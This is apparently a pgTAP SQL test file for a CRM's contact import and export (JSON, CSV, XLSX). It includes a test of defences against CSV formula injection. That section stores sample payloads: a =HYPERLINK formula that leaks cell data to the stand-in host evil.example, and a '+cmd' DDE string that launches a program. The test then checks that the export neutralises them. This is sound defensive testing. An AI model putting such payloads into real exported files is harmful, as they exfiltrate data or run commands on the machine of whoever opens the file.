-- Imports and exports: JSON (cJSON) and CSV through
-- upsert_contact's path, a report per row, malformed files change nothing,
-- all_or_nothing; the audience as CSV (BOM, header, custom fields as
-- columns), export_rows for COPY, and .xlsx.
BEGIN;
SELECT plan(37);

SELECT customercard.create_account('Import test', 'RU', 'RUB') AS acct \gset
SET customercard.account_id = :acct;
SET customercard.actor = 'import:crm-migration';
INSERT INTO customercard.funnels (name) VALUES ('Free lesson') RETURNING funnel_id AS funnel \gset
INSERT INTO customercard.lgts (funnel_id, name) VALUES (:funnel, 'Landing') RETURNING lgt_id AS lgt \gset
INSERT INTO customercard.custom_fields (name) VALUES ('Source'), ('Course');

-- ---------------------------------------------------------------- JSON
CREATE TEMP TABLE r1 AS SELECT * FROM customercard.import_json($$[
  {"name": "Anna Ivanova", "phones": ["8 912 111 22 33"], "tags": ["vip", "webinar"], "funnel": "Free lesson", "lgt": "Landing",
   "custom": {"Source": "fair"}},
  {"name": "Anna I.", "phones": ["+7 (912) 111-22-33"], "emails": ["anna@example.com"]},
  "just a string",
  {"name": "Bad phone", "phones": ["12"]},
  {"name": "Unknown funnel", "funnel": "Paid course"},
  {"name": "Boris", "channel": {"kind": "telegram", "external_id": "tg-555"}}
]$$);
SELECT results_eq('SELECT line, status FROM r1 ORDER BY line',
    $$VALUES (1, 'created'), (2, 'updated'), (3, 'rejected'), (4, 'rejected'), (5, 'rejected'), (6, 'created')$$,
    'import_json: a line per object, created / updated (matched by the phone in another format) / rejected');
SELECT results_eq('SELECT line, reason FROM r1 WHERE status = ''rejected'' ORDER BY line',
    $$VALUES (3, 'not a JSON object'), (4, '"12" is not a valid phone number'), (5, 'funnel "Paid course" does not exist in account ' || current_setting('customercard.account_id'))$$,
    '... each rejected line with its reason');
SELECT is((SELECT count(DISTINCT contact_id) FROM r1 WHERE status <> 'rejected'), 2::bigint, '... two contacts');
SELECT is((SELECT count(*) FROM customercard.contacts WHERE account_id = :acct), 2::bigint, 'rejected lines left nothing behind');
SELECT results_eq(format($$SELECT f.name, l.name FROM customercard.subscriptions s
                             JOIN customercard.funnels f USING (account_id, funnel_id) JOIN customercard.lgts l USING (account_id, lgt_id)
                            WHERE s.account_id = %s$$, :acct),
    $$VALUES ('Free lesson', 'Landing')$$, 'funnel and LGT: a subscription');
SELECT results_eq(format($$SELECT string_agg(t.name, ',' ORDER BY t.name) FROM customercard.contact_tags ct JOIN customercard.tags t USING (account_id, tag_id)
                            WHERE ct.account_id = %s$$, :acct), $$VALUES ('vip,webinar')$$, 'tags');
SELECT results_eq(format($$SELECT v.value FROM customercard.custom_values v WHERE v.account_id = %s$$, :acct), $$VALUES ('fair')$$, 'custom fields');
SELECT is((SELECT count(*) FROM customercard.action_log WHERE account_id = :acct AND event = 'contact_created' AND actor = 'import:crm-migration'),
    2::bigint, 'the log records the imported contacts with the importing actor');

SELECT throws_ok($$SELECT * FROM customercard.import_json('[{"name": "Cut off"')$$, '22P02', NULL, 'a malformed JSON file is refused');
SELECT is(tap.hint_of($$SELECT * FROM customercard.import_json('[{"name": "Cut off"')$$), 'Nothing was imported. Fix the file and import it again.',
    '... the hint says nothing was imported');
SELECT throws_ok($$SELECT * FROM customercard.import_json('{"name": "Not an array"}')$$, '22023', NULL, 'a JSON object instead of an array');
SELECT throws_ok($$SELECT * FROM customercard.import_json('[{"name": "Good"}, {"phones": ["1"]}]', all_or_nothing => true)$$, '22023',
    '1 row(s) of the import were refused; nothing was imported', 'all_or_nothing: one bad row refuses the file');
SELECT is((SELECT count(*) FROM customercard.contacts WHERE account_id = :acct AND name = 'Good'), 0::bigint, '... and the good row is not there');

-- ---------------------------------------------------------------- CSV
CREATE TEMP TABLE r2 AS SELECT * FROM customercard.import_csv(
    E'\uFEFFName;Phone;Email;Tags;custom:Course;Channel;Social_ID\r\n'
    || E'Carl;+7 913 000 11 22;carl@example.com;"a, b";Python;vk;vk-1\r\n'
    || E'"Dora ""D"" Lee";;dora@example.com;;;;\r\n'
    || E'\r\n'
    || E'Eve;12;;;;;\r\n'
    || E'"Multi\nline";;multi@example.com;;;;\r\n'
    || E'Anna again;;anna@example.com;;;;\r\n');
SELECT results_eq('SELECT line, status FROM r2 ORDER BY line',
    $$VALUES (2, 'created'), (3, 'created'), (5, 'rejected'), (6, 'created'), (8, 'updated')$$,
    'import_csv: ";"-separated with a BOM, quoted fields, a blank line skipped, lines counted in the text');
SELECT results_eq(format($$SELECT c.name, (SELECT string_agg(t.name, '|' ORDER BY t.name) FROM customercard.contact_tags ct
                                               JOIN customercard.tags t USING (account_id, tag_id) WHERE ct.account_id = c.account_id AND ct.contact_id = c.contact_id),
                                  (SELECT v.value FROM customercard.custom_values v WHERE v.account_id = c.account_id AND v.contact_id = c.contact_id),
                                  (SELECT h.kind || ':' || h.external_id FROM customercard.channels h WHERE h.account_id = c.account_id AND h.contact_id = c.contact_id)
                             FROM customercard.contacts c WHERE c.account_id = %s AND c.name IN ('Carl', 'Dora "D" Lee', E'Multi\nline') ORDER BY c.name$$, :acct),
    $$VALUES ('Carl', 'a|b', 'Python', 'vk:vk-1'), ('Dora "D" Lee', NULL, NULL, NULL), (E'Multi\nline', NULL, NULL, NULL)$$,
    '... names with quotes and line breaks, tags split, a custom column, the channel by kind and social id');
SELECT throws_ok($$SELECT * FROM customercard.import_csv(E'name,phone\nX,"never closed\n')$$, '22P04', 'CSV line 2: a quoted field is never closed',
    'an unclosed quote refuses the file');
SELECT throws_ok($$SELECT * FROM customercard.import_csv(E'name,shoe_size\nX,42\n')$$, '22P04', 'CSV column "shoe_size" is not known', 'an unknown column');
SELECT throws_ok($$SELECT * FROM customercard.import_csv(E'name,phone\nX,1,2\n')$$, '22P04', 'CSV line 2 has 3 fields, the header 2', 'a ragged line');
SELECT throws_ok($$SELECT * FROM customercard.import_csv(E'name,phone,Phones\nX,1,2\n')$$, '22P04', NULL, 'a column twice (phone and phones)');
SELECT is((SELECT count(*) FROM customercard.contacts WHERE account_id = :acct AND name = 'X'), 0::bigint, 'malformed CSV files imported nothing');
CREATE TEMP TABLE r_crlf AS SELECT * FROM customercard.import_csv(E'name,note,city\r\n"CRLF kept","one\r\ntwo","Nizhny\rNovgorod\n"\r\n');
SELECT is((SELECT r.status || ' ' || encode(convert_to(c.note, 'UTF8'), 'hex') || ' ' || encode(convert_to(c.city, 'UTF8'), 'hex')
             FROM r_crlf r JOIN customercard.contacts c USING (contact_id)),
    'created ' || encode(convert_to(E'one\r\ntwo', 'UTF8'), 'hex') || ' ' || encode(convert_to(E'Nizhny\rNovgorod\n', 'UTF8'), 'hex'),
    'a quoted field keeps its CRLF and a lone CR or LF as they are (RFC 4180)');

-- ---------------------------------------------------------------- exports
SELECT is(split_part(customercard.export_csv('{}'), E'\r\n', 1), E'\uFEFFcontact_id,name,phone,email,status,created_at_utc,tags,channel,connection,social_id,Course,Source',
    'export_csv: BOM, header, a column per custom field');
SELECT is(split_part(customercard.export_csv('{}', '{tags}'), E'\r\n', 1), E'\uFEFFcontact_id,name,phone,email,status,created_at_utc,tags',
    'column groups, as the reference product''s check-boxes: tags only');
SELECT is(split_part(customercard.export_csv('{"tag": "a"}', '{custom,channels}'), E'\r\n', 2) LIKE '%,active,%,vk,,vk-1,Python,', true,
    '... the messenger link and the custom fields, no tags: the lines follow the header');
SELECT is(split_part(customercard.export_csv('{}', '{}'), E'\r\n', 1), E'\uFEFFcontact_id,name,phone,email,status,created_at_utc',
    '... none: the contact''s own columns');
SELECT throws_ok($$SELECT customercard.export_csv('{}', '{utm}')$$, '22023', 'unknown export column group ''utm''', 'an unknown group: 22023');
SELECT customercard.bulk_enqueue('export', '{"groups": ["tags"]}', filter => '{}') AS gexp \gset
SELECT tap.run_job(:acct, :gexp);
SELECT is(split_part(customercard.bulk_export_csv(:gexp), E'\r\n', 1), E'\uFEFFcontact_id,name,phone,email,status,created_at_utc,tags',
    'the export job takes the groups too');
SELECT is(array_length(string_to_array(rtrim(customercard.export_csv('{}'), E'\r\n'), E'\r\n'), 1) - 1,
          (SELECT count(*)::int FROM customercard.contacts WHERE account_id = :acct),
    '... a CRLF-ended record per contact (a line break inside a quoted name is a bare LF)');
SELECT ok(customercard.export_csv('{"tag": "a"}') LIKE E'%\r\n' || (SELECT contact_id FROM customercard.contacts WHERE account_id = :acct AND name = 'Carl')
          || E',Carl,+79130001122,carl@example.com,active,%,a; b,vk,,vk-1,Python,\r\n',
    '... a filtered export: the phone in E.164, tags joined, the messenger link (kind, connection, social id), the custom value in its column');
SELECT ok(customercard.export_csv('{}') LIKE E'%,"Dora ""D"" Lee",%' AND customercard.export_csv('{}') LIKE E'%,"Multi\nline",%',
    '... quotes doubled, line breaks quoted (RFC 4180)');
SELECT results_eq(format($$SELECT name, tags, custom FROM customercard.export_rows('{"tag": "vip"}')$$),
    $$VALUES ('Anna again', 'vip; webinar', '{"Source": "fair"}'::jsonb)$$, 'export_rows, for COPY ... WITH (FORMAT csv, HEADER)');
SELECT ok(substr(customercard.export_xlsx('{}'), 1, 4) = '\x504b0304'::bytea
          AND position('xl/worksheets/sheet1.xml'::bytea IN customercard.export_xlsx('{}')) > 0,
    'export_xlsx: an OOXML zip with its worksheet (test/shell/xlsx_export.sh reads the cells)');

-- a big file in one transaction: one heavyweight lock per identifier would
-- exhaust the shared lock table (max_locks_per_transaction) after a few
-- thousand rows; upserts lock at most the account's 1,024 slot rows
SELECT is((SELECT count(*) FROM customercard.import_json((
              SELECT json_agg(json_build_object('name', 'Bulk ' || i, 'phones', json_build_array('+7 958 ' || lpad(i::text, 7, '0')),
                                                'emails', json_build_array('bulk' || i || '@example.com')))::text
                FROM generate_series(1, 4000) i)) WHERE status = 'created'), 4000::bigint,
    'import_json of 4,000 contacts (8,000 identifiers) in one transaction');

-- ---------------------------------------------------------------- formulas
-- A value a spreadsheet would run (=, +, -, @, a tab or a carriage return
-- first) is written with a leading ' (OWASP), a plain number is not, and
-- our import reads such a cell back as it was: the round trip changes nothing
SELECT customercard.upsert_contact(jsonb_build_object('name', '=HYPERLINK("http://evil.example/?leak="&A2,"click")', 'tags', jsonb_build_array('fx'), 'emails', jsonb_build_array('fx1@example.com'),
                                                      'custom', jsonb_build_object('Source', '+cmd|'' /C calc''!A0'))) AS fx1 \gset
SELECT customercard.upsert_contact(jsonb_build_object('name', '@SUM(1+1)', 'tags', jsonb_build_array('fx'), 'emails', jsonb_build_array('fx2@example.com'), 'custom', jsonb_build_object('Source', '-5', 'Course', E'\tTabbed'))) AS fx2 \gset
SELECT customercard.upsert_contact(jsonb_build_object('name', '''=already quoted', 'tags', jsonb_build_array('fx'), 'emails', jsonb_build_array('fx3@example.com'), 'custom', jsonb_build_object('Source', '-2+3', 'Course', '''plain'))) AS fx3 \gset
CREATE TEMP TABLE fx_csv AS SELECT customercard.export_csv('{"tag": "fx"}') AS csv;
SELECT ok((SELECT csv LIKE '%,"''=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",%' AND csv LIKE '%,''@SUM(1+1),%'
                  AND csv LIKE E'%,''+cmd|'' /C calc''!A0\r\n%' AND csv LIKE E'%,''\tTabbed,-5\r\n%' AND csv LIKE '%,''''=already quoted,%'
                  AND csv LIKE E'%,''plain,''-2+3\r\n%' FROM fx_csv),
    'export_csv writes a leading '' before a formula, an @, a + or - that is no plain number, a tab; a plain number as it is');
SELECT is((SELECT count(*) FROM fx_csv, regexp_split_to_table(csv, E'\r\n') l, regexp_split_to_table(l, ',') f WHERE f ~ '^"?[-=+@\t]' AND f !~ '^-?[0-9]+$'),
    0::bigint, '... no field of the file starts a formula');
CREATE TEMP TABLE fx_before AS SELECT c.contact_id, c.name, (SELECT jsonb_object_agg(f.name, v.value) FROM customercard.custom_values v JOIN customercard.custom_fields f USING (account_id, field_id)
                                                             WHERE v.account_id = c.account_id AND v.contact_id = c.contact_id) AS custom
                                  FROM customercard.contacts c WHERE c.contact_id IN (:fx1, :fx2, :fx3);
CREATE TEMP TABLE fx_import AS SELECT * FROM customercard.import_csv((SELECT csv FROM fx_csv));
SELECT is((SELECT string_agg(status, ',') FROM fx_import), 'updated,updated,updated', '... and import_csv reads the export back onto the same contacts');
SELECT results_eq('SELECT * FROM fx_before ORDER BY contact_id',
    $$SELECT c.contact_id, c.name, (SELECT jsonb_object_agg(f.name, v.value) FROM customercard.custom_values v JOIN customercard.custom_fields f USING (account_id, field_id)
                                    WHERE v.account_id = c.account_id AND v.contact_id = c.contact_id)
        FROM customercard.contacts c WHERE c.contact_id IN ($$ || :fx1 || ',' || :fx2 || ',' || :fx3 || ') ORDER BY c.contact_id',
    '... with every value as it was (the leading '' dropped again)');

SELECT * FROM finish();
ROLLBACK;
